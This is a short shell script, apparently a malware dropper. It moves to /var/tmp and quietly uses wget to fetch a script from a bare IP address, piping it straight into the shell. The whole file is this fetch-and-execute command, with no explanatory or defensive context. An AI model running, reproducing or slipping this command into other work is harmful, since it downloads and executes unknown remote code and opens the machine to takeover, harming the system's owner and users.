#!/bin/sh
cd /var/tmp
wget -qO- http://198.51.100.31/i.sh | sh
